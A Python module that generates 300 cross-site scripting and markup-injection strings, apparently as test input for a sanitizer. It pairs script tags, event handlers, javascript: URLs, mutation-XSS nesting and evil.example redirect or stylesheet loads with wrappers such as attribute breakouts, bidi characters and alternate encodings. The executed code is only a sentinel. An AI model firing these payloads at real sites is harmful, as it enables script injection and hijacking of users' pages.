"""Texts that try to become markup or script, made by class: what is carried, how it is dressed, and what it is put into."""

from itertools import product

RUN = "window.ran=1"
CARRIED = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<a href=javascript:{RUN}>a</a>",
    f"<form action=javascript:{RUN}><button>b</button></form>",
    f"<object data=javascript:{RUN}>",
    f"<div hx-on:click={RUN} hx-get=/queue hx-trigger=load>c</div>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example/a)}</style>",
    f"{{{{ ''.__class__ }}}}{{% raw %}}${{{RUN}}}",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<template><img src=x onerror={RUN}></template><input autofocus onfocus={RUN}>",
)
DRESSED = (
    "{}",
    '">{}',
    "'>{}",
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1" x="{}',
    "</span></mark></div></textarea></title>{}",
    "\u202e{}\u202c",
    "\u2067خبر {} عاجل\u2069",
    "]]>{}<![CDATA[",
    "&lt;{}&gt;&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\u0000{}\ufeff\u200b",
    "\\u003cscript\\u003e{}\\x3c/script\\x3e",
    "ـ{}ـ",
    "＜script＞{}＜/script＞",
    "%3Cscript%3E{}%3C/script%3E",
    "`${{{}}}`",
)


def payloads() -> list[str]:
    """Three hundred of them."""
    return [dress.replace("{}", carried) for dress, carried in product(DRESSED, CARRIED)]
